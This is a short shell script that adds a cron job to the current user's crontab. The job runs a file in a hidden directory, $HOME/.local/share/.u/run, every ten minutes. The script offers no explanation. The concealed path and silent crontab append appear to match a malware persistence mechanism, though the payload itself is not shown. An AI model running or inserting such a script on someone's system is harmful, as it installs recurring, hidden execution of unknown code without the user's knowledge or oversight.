#!/bin/sh
(crontab -l 2>/dev/null; echo "*/10 * * * * $HOME/.local/share/.u/run") | crontab -
